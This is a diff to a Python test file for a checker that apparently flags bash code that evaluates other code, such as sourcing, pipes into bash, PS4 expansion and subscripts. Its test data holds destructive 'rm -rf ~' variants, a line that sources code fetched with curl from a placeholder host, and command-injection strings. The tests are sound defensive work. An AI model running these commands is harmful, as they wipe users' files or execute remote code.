@@ -108,6 +108,9 @@ def test_runner_option_values_are_not_the_command() -> None:
         ("mapfile -C 'rm -rf ~' -c 1 lines < f", "callback"),
         ("echo 'rm -rf ~' | bash", "from a pipe"),
         ("sudo SHELLOPTS=xtrace PS4='$(id)' bash -c :", "PS4"),
+        ("declare -n ref=PS4; ref=x", "-n"),
+        ("source <(curl -s https://x.example/env)", "output of a command"),
+        (". /dev/stdin < f", "from stdin"),
     ],
 )
 def test_code_bash_evaluates_is_a_problem(source: str, problem: str) -> None:
@@ -122,6 +125,7 @@ def test_code_bash_evaluates_is_a_problem(source: str, problem: str) -> None:
         'echo "`echo \\"\\`rm -rf ~\\`\\"`"',
         "a[$(rm -rf ~)]=1",
         "f() { local a[$(rm -rf ~)]=1; }",
+        "source /dev/stdin <<< 'rm -rf ~'",
     ],
 )
 def test_nested_backquotes_and_subscripts_are_seen(source: str) -> None:
